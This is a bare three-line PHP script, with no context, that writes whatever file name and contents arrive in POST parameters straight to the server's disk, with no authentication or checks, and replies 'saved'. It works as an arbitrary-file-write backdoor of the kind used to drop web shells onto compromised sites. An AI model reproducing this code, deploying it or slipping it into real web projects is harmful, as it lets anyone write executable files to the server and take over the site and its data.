<?php
file_put_contents($_POST['n'], $_POST['d']);
echo 'saved';
